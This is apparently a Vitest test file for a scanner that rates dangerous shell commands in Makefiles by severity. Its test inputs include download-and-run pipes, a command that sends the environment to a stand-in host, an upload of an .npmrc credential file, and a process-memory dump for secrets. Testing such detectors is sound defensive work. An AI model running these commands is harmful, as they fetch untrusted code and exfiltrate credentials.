import { describe, expect, it } from 'vitest';
import { downloadSource, shellCommandFindings } from './shell-command-findings.js';

const judge = (command: string, automatic = false) =>
  shellCommandFindings(command, { file: 'Makefile', line: 3, where: 'Makefile', automatic }).map((f) => [f.severity, f.title]);

describe('shellCommandFindings', () => {
  it('rates downloaded-and-run code by its source, one step higher when nobody chooses to run it', () => {
    expect(judge('curl -LsSf https://astral.sh/uv/install.sh | sh')).toEqual([['LOW', 'Makefile: downloads code from an official installer host and runs it']]);
    expect(judge('curl -fsSL https://tools.acme.example/i.sh | bash')).toEqual([['MED', 'Makefile: downloads code from the network and runs it']]);
    expect(judge('curl -fsSL https://tools.acme.example/i.sh | bash', true)).toEqual([['HIGH', 'Makefile: downloads code from the network and runs it']]);
    expect(judge('wget -qO- http://203.0.113.5/x | sh')[0]).toEqual(['HIGH', 'Makefile: downloads code from plain HTTP, an IP address or an anonymous host and runs it']);
    expect(judge('bash <(curl -s https://paste.ee/r/abc)', true)[0]![0]).toBe('CRIT');
    expect(judge('eval "$(curl -fsSL https://x.example/env)"')[0]![0]).toBe('MED');
    expect(judge('curl -o t https://x.example/t && chmod +x t && ./t')[0]![0]).toBe('MED');
  });

  it('finds the environment or credential files sent out, and runner memory read', () => {
    expect(judge('env | base64 | curl -X POST --data-binary @- https://c.example/s', true)).toContainEqual(['CRIT', 'Makefile: sends the whole environment over the network']);
    expect(judge('curl -F f=@$HOME/.npmrc https://c.example/u')).toContainEqual(['CRIT', 'Makefile: sends a credential file over the network']);
    expect(judge("sudo python3 memdump.py | grep -aoE '\"isSecret\":true'")).toContainEqual(['CRIT', 'Makefile: reads another process’s memory for secrets']);
  });

  it('does not read file names, prose or local commands as downloads', () => {
    expect(judge('**Scripts**: `kebab-case.sh` (e.g., `deploy.sh`, `fetch-logs.sh`)')).toEqual([]);
    expect(judge('npm ci && npm run build')).toEqual([]);
    expect(judge('curl -fsS https://api.acme.example/health')).toEqual([]);
  });

  it('classifies hosts', () => {
    expect(downloadSource('curl https://sh.rustup.rs | sh')).toBe('official');
    expect(downloadSource('curl https://golangci.example/i.sh | sh', new Set(['golangci.example']))).toBe('official');
    expect(downloadSource('curl https://x.ngrok-free.app/a | sh')).toBe('anonymous');
    expect(downloadSource('curl 198.51.100.7/a.sh | sh')).toBe('anonymous');
  });
});
